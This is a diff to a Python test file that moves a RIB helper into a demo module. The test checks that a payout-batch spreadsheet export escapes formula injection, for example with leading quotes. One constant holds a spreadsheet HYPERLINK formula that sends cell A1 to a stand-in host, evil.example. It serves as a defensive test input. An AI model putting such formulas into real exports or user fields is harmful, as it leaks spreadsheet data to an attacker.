@@ -15,6 +15,7 @@ from catalog.db import utcnow
 from catalog.spreadsheet import Identifier
 from orders import fulfilment, ledger, payment_attempts, reports
 from orders.models import PayoutBatch
+from storefront.demo.identifiers import make_rib
 from tests.storefront.backoffice import login, operator
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
@@ -73,7 +74,7 @@ def owed(make, session):
     part = order.fulfilments[0]
     fulfilment.mark_shipped(session, part, "T", now=now)
     fulfilment.mark_delivered(session, part, now=now)
-    ledger.set_payout_account(session, coop.id, holder_name=HYPERLINK, rib=ledger.make_rib(1, 1, 1))
+    ledger.set_payout_account(session, coop.id, holder_name=HYPERLINK, rib=make_rib(1, 1, 1))
     session.commit()
     return coop
 
@@ -89,7 +90,7 @@ def test_the_payout_batch_for_the_bank_is_neutralised(client, session, owed) -> 
     row = dict(zip(cells[0], cells[1], strict=True))
     assert row["holder"] == "'" + HYPERLINK
     assert row["cooperative"] == "'+Coopérative Tafoukt"
-    rib = ledger.make_rib(1, 1, 1)
+    rib = make_rib(1, 1, 1)
     assert rib.startswith("0") and row["rib"] == f'="{rib}"', "leading zeros kept"
     assert row["ice"] == '="001561191000066"'
 
